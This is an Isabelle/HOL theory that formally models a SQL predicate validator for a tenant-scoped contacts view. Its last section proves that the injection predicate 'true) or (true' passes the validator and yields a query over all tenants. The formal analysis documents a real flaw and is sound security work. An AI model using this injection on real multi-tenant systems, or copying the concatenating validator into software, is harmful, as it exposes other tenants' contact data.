(* ===== verification/Custom_Query.thy ===== *)
theory Custom_Query
  imports Audience_Db
begin

text \<open>
  The custom-query lane: \<^verbatim>\<open>apps/api/src/audiences/custom-query-predicate.validator.ts\<close> and
  \<open>resolveContacts\<close> of \<^verbatim>\<open>custom-query.service.ts\<close>. The SQL parser (\<open>pgsql-ast-parser\<close>) and the
  database that executes the statement are parameters; the syntax tree is the part of the
  parser's output the validator inspects. Rejection reasons are kept as constructors.
\<close>

section \<open>The syntax tree\<close>

datatype Expr =
    ERef string
  | ELiteral
  | EKeyword string
  | EBinary string Expr Expr
  | EUnary string Expr
  | ETernary string Expr Expr Expr
  | EList "Expr list"
  | ECast Expr
  | ECall string "Expr list"
  | ESelect
  | EOther string

text \<open>
  \<open>ELiteral\<close> stands for the node types the validator passes without looking inside
  (\<open>string\<close>, \<open>numeric\<close>, \<open>integer\<close>, \<open>boolean\<close>, \<open>null\<close>, \<open>constant\<close>, \<open>parameter\<close>).
\<close>

datatype FromItem =
    FromTable "string option" string
  | FromOther

record SelectStatement =
  sel_from :: "FromItem list option"
  sel_columns :: "Expr list option"
  sel_where :: "Expr option"

datatype Statement =
    SelectStmt SelectStatement
  | OtherStmt string

section \<open>The validator\<close>

definition CONTACTS_SAFE_COLUMNS :: "string list" where
  "CONTACTS_SAFE_COLUMNS =
     [''contact_id'', ''tenant_id'', ''has_email'', ''has_phone'', ''email_domain'', ''created_at'',
      ''turf_id'', ''state'', ''postcode'', ''locality'']"

definition CONTACTS_SAFE_RELATION :: string where
  "CONTACTS_SAFE_RELATION = ''audience.contacts_safe''"

definition ALLOWED_FUNCTIONS :: "string list" where
  "ALLOWED_FUNCTIONS =
     [''now'', ''current_date'', ''current_timestamp'', ''lower'', ''upper'', ''length'',
      ''date_trunc'', ''coalesce'']"

definition SAFE_KEYWORDS :: "string list" where
  "SAFE_KEYWORDS =
     [''current_date'', ''current_timestamp'', ''current_time'', ''localtimestamp'', ''localtime'']"

datatype predicate_reason =
    PredicateEmpty
  | ParseError
  | NotSingleExpression
  | NotContactsView
  | WrongRelation
  | AlteredProjection
  | NoWhere
  | WildcardColumn
  | DisallowedColumn string
  | DisallowedKeyword string
  | DisallowedFunction string
  | SubqueryNotAllowed
  | UnsupportedExpression string

record PredicateValidation =
  pv_ok :: bool
  pv_reasons :: "predicate_reason list"
  pv_sql :: string

definition buildContactsSafeQuery :: "string \<Rightarrow> nat \<Rightarrow> string" where
  "buildContactsSafeQuery predicate limit =
     ''select contact_id from audience.contacts_safe where tenant_id = $1 and ('' @ predicate @
     '') limit '' @ nat_to_string limit"

definition validateEnvelope :: "SelectStatement \<Rightarrow> predicate_reason list" where
  "validateEnvelope select =
     (case sel_from select of
        Some [FromTable schema name] \<Rightarrow>
          let rel = (case schema of
                       Some s \<Rightarrow> if s = [] then name else s @ ''.'' @ name
                     | None \<Rightarrow> name) in
          if rel \<noteq> CONTACTS_SAFE_RELATION \<and> name \<noteq> ''contacts_safe'' then [WrongRelation] else []
      | _ \<Rightarrow> [NotContactsView]) @
     (case sel_columns select of
        Some [ERef name] \<Rightarrow> if name = ''contact_id'' then [] else [AlteredProjection]
      | _ \<Rightarrow> [AlteredProjection])"

fun walkExpr :: "Expr \<Rightarrow> predicate_reason list" where
  "walkExpr (ERef name) =
     (let col = js_lower name in
      if col = ''*'' then [WildcardColumn]
      else if col \<notin> set CONTACTS_SAFE_COLUMNS then [DisallowedColumn col] else [])"
| "walkExpr ELiteral = []"
| "walkExpr (EKeyword keyword) =
     (let kw = js_lower keyword in if kw \<notin> set SAFE_KEYWORDS then [DisallowedKeyword kw] else [])"
| "walkExpr (EBinary op l r) = walkExpr l @ walkExpr r"
| "walkExpr (EUnary op e) = walkExpr e"
| "walkExpr (ETernary op v lo hi) = walkExpr v @ walkExpr lo @ walkExpr hi"
| "walkExpr (EList es) = concat (map walkExpr es)"
| "walkExpr (ECast e) = walkExpr e"
| "walkExpr (ECall name args) =
     (let fn = js_lower name in
      (if fn \<notin> set ALLOWED_FUNCTIONS then [DisallowedFunction fn] else []) @
      concat (map walkExpr args))"
| "walkExpr ESelect = [SubqueryNotAllowed]"
| "walkExpr (EOther type) = [UnsupportedExpression type]"

definition rejected :: "predicate_reason list \<Rightarrow> PredicateValidation" where
  "rejected reasons = \<lparr>pv_ok = False, pv_reasons = reasons, pv_sql = []\<rparr>"

definition validateContactsSafePredicate ::
  "(string \<Rightarrow> Statement list option) \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> PredicateValidation" where
  "validateContactsSafePredicate parse predicate limit =
     (let trimmed = js_trim predicate in
      if trimmed = [] then rejected [PredicateEmpty]
      else let sql = buildContactsSafeQuery trimmed limit in
      case parse sql of
        None \<Rightarrow> rejected [ParseError]
      | Some [SelectStmt select] \<Rightarrow>
          let reasons = validateEnvelope select @
            (case sel_where select of Some w \<Rightarrow> walkExpr w | None \<Rightarrow> [NoWhere]) in
          if length reasons > 0 then rejected (js_set reasons)
          else \<lparr>pv_ok = True, pv_reasons = [], pv_sql = sql\<rparr>
      | Some stmts \<Rightarrow> rejected [NotSingleExpression])"

section \<open>Execution\<close>

definition CUSTOM_QUERY_ROW_CAP :: nat where "CUSTOM_QUERY_ROW_CAP = 50000"

datatype resolve_reason = Invalid predicate_reason | QueryFailed

record ResolveCustomQueryResult =
  cq_ok :: bool
  cq_reasons :: "resolve_reason list"
  cq_contactIds :: "string list"

text \<open>\<open>execSql sql tenantId\<close>: the rows of the read-only transaction, \<open>None\<close> where it throws.\<close>

definition resolveContacts ::
  "(string \<Rightarrow> Statement list option) \<Rightarrow> (string \<Rightarrow> string \<Rightarrow> string list option) \<Rightarrow>
   string \<Rightarrow> string \<Rightarrow> ResolveCustomQueryResult" where
  "resolveContacts parse execSql tenantId predicate =
     (let validation = validateContactsSafePredicate parse predicate CUSTOM_QUERY_ROW_CAP in
      if \<not> pv_ok validation
      then \<lparr>cq_ok = False, cq_reasons = map Invalid (pv_reasons validation), cq_contactIds = []\<rparr>
      else case execSql (pv_sql validation) tenantId of
             Some rows \<Rightarrow> \<lparr>cq_ok = True, cq_reasons = [], cq_contactIds = rows\<rparr>
           | None \<Rightarrow> \<lparr>cq_ok = False, cq_reasons = [QueryFailed], cq_contactIds = []\<rparr>)"

section \<open>What an accepted predicate may contain\<close>














text \<open>
  The tree of a predicate that closes the envelope's parenthesis:
  \<open>tenant_id = $1 and (true) or (true)\<close>. Nothing in the walk asks for the tenant filter to be
  a conjunct of the whole condition.
\<close>

definition breakout_where :: Expr where
  "breakout_where =
     EBinary ''OR'' (EBinary ''AND'' (EBinary ''='' (ERef ''tenant_id'') ELiteral) ELiteral) ELiteral"

definition breakout_select :: SelectStatement where
  "breakout_select =
     \<lparr>sel_from = Some [FromTable (Some ''audience'') ''contacts_safe''],
      sel_columns = Some [ERef ''contact_id''], sel_where = Some breakout_where\<rparr>"

definition breakout_predicate :: string where
  "breakout_predicate = ''true) or (true''"

lemma breakout_sql:
  "buildContactsSafeQuery (js_trim breakout_predicate) n =
     ''select contact_id from audience.contacts_safe where tenant_id = $1 and (true) or (true) limit '' @
     nat_to_string n"
  by (simp add: buildContactsSafeQuery_def breakout_predicate_def js_trim_def js_space_def)

text \<open>A predicate that closes the envelope's parenthesis is accepted: the statement it builds selects
  contacts of every tenant.\<close>

lemma breakout_accepted:
  assumes "parse (buildContactsSafeQuery (js_trim breakout_predicate) n) = Some [SelectStmt breakout_select]"
  shows "pv_ok (validateContactsSafePredicate parse breakout_predicate n) \<and>
    pv_sql (validateContactsSafePredicate parse breakout_predicate n) =
      ''select contact_id from audience.contacts_safe where tenant_id = $1 and (true) or (true) limit '' @
      nat_to_string n"
proof -
  have "walkExpr breakout_where = []"
    by (simp add: breakout_where_def js_lower_def lower_char_def CONTACTS_SAFE_COLUMNS_def)
  moreover have "js_trim breakout_predicate \<noteq> []"
    by (simp add: breakout_predicate_def js_trim_def js_space_def)
  ultimately show ?thesis
    using assms
    by (simp add: validateContactsSafePredicate_def Let_def breakout_select_def validateEnvelope_def
        CONTACTS_SAFE_RELATION_def breakout_sql)
qed

lemma breakout_accepted_witness:
  "pv_ok (validateContactsSafePredicate (\<lambda>sql. Some [SelectStmt breakout_select]) breakout_predicate 100)"
  using breakout_accepted [of "\<lambda>sql. Some [SelectStmt breakout_select]" 100] by simp


end
